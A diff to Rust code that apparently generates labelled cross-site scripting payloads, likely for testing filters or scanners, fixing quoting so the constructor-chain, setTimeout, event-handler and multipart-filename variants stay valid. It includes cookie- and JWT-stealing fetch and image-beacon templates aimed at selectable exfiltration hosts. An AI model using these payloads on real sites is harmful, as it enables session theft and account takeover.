@@ -24,6 +24,8 @@ pub fn js_payload(rng: &mut Rng) -> (String, &'static str) {
     let arg = rng.pick(ARGS).to_string();
     let g = rng.pick(GLOBALS);
     let host = rng.pick(EXFIL_HOSTS);
+    // Code inside a single-quoted string literal cannot hold a bare `'`.
+    let quoted = arg.replace('\'', "\"");
     match rng.below(20) {
         0 | 1 => (format!("{callee}({arg})"), "call"),
         2 => (format!("{callee}`{}`", rng.pick(&["1", "xss", "${document.domain}"])), "tagged-template"),
@@ -32,10 +34,10 @@ pub fn js_payload(rng: &mut Rng) -> (String, &'static str) {
             (format!("{g}['{a}'+'{b}']({arg})"), "bracket-concat")
         }
         4 => (format!("{g}[{}]({arg})", quote_name(rng, &callee)), "bracket-escaped"),
-        5 => (format!("[].constructor.constructor('{callee}({arg})')()"), "constructor-chain"),
+        5 => (format!("[].constructor.constructor('{callee}({quoted})')()"), "constructor-chain"),
         6 => (format!("eval(atob('{}'))", b64(&format!("{callee}({arg})"))), "eval-atob"),
-        7 => (format!("setTimeout('{callee}({arg})'{})", rng.pick(&["", ",0", ",100"])), "settimeout-string"),
-        8 => (format!("{}('{callee}({arg})')()", rng.pick(&["Function", "new Function", "window.Function"])), "function-ctor"),
+        7 => (format!("setTimeout('{callee}({quoted})'{})", rng.pick(&["", ",0", ",100"])), "settimeout-string"),
+        8 => (format!("{}('{callee}({quoted})')()", rng.pick(&["Function", "new Function", "window.Function"])), "function-ctor"),
         9 => (format!("eval(String.fromCharCode({}))", char_codes(&format!("{callee}({arg})"))), "fromcharcode"),
         10 => (format!("fetch('{host}/?c='+{})", rng.pick(&["document.cookie", "btoa(document.cookie)", "localStorage.getItem('jwt')"])), "exfil-fetch"),
         11 => (format!("new Image().src='{host}/?'+document.cookie"), "exfil-image"),
@@ -57,15 +59,16 @@ pub fn js_payload(rng: &mut Rng) -> (String, &'static str) {
     }
 }
 
+/// A global function's name cut in two (`console.log` is not a property of `window`: `alert`).
 fn split_word(rng: &mut Rng, word: &str) -> (String, String) {
-    let w: &str = word.split('.').next_back().unwrap_or(word);
+    let w: &str = if word.contains('.') { "alert" } else { word };
     let cut = rng.range(1, w.len().saturating_sub(1).max(1));
     (w[..cut].to_string(), w[cut..].to_string())
 }
 
 /// A property name as an escaped string literal (`'\x61lert'`, `"\u0061lert"`, `'\141lert'`).
 fn quote_name(rng: &mut Rng, word: &str) -> String {
-    let w: &str = word.split('.').next_back().unwrap_or(word);
+    let w: &str = if word.contains('.') { "alert" } else { word };
     let q = *rng.pick(&['\'', '"', '`']);
     let mut out = String::new();
     out.push(q);
@@ -143,7 +146,7 @@ fn handler_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
         7 => (format!("<svg><animate{g}onbegin={v}{g}attributeName=x{g}dur=1s>"), "svg-animate"),
         8 => (format!("<svg><set{g}onbegin={v}{g}attributename=x>"), "svg-set"),
         9 => (format!("<math><maction{g}actiontype=statusline{g}onclick={v}>x</maction></math>"), "mathml"),
-        10 => (format!("<{}{g}{}={v}>x", rng.pick(&["x-widget", "my-el", "custom-tag", "xss", "abc-def"]), rng.pick(&["onclick", "onpointerover", "onmouseover", "onfocus tabindex=1 autofocus"])), "custom-element"),
+        10 => (format!("<{}{g}{}={v}>x", rng.pick(&["x-widget", "my-el", "custom-tag", "xss", "abc-def"]), rng.pick(&["onclick", "onpointerover", "onmouseover", "tabindex=1 autofocus onfocus"])), "custom-element"),
         11 => (format!("<marquee{g}onstart={v}>"), "marquee"),
         12 => (format!("<div{g}style=\"animation-name:spin\"{g}onanimationstart={v}>"), "css-animation-event"),
         13 => (format!("<audio{g}controls><source{g}src=x{g}onerror={v}></audio>"), "source-onerror"),
@@ -306,7 +309,8 @@ fn carried(rng: &mut Rng, markup: &str) -> (Carrier, &'static str) {
         1 => {
             let body = format!(
                 "--rt\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{}.png\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--rt--\r\n",
-                markup.replace('"', "'")
+                // A header line holds no line break: whitespace instead.
+                markup.replace('"', "'").replace(['\r', '\n'], " ")
             );
             (Carrier::Request(Request::new("POST", "/upload").header("Content-Type", "multipart/form-data; boundary=rt").body(&body)), "filename")
         }
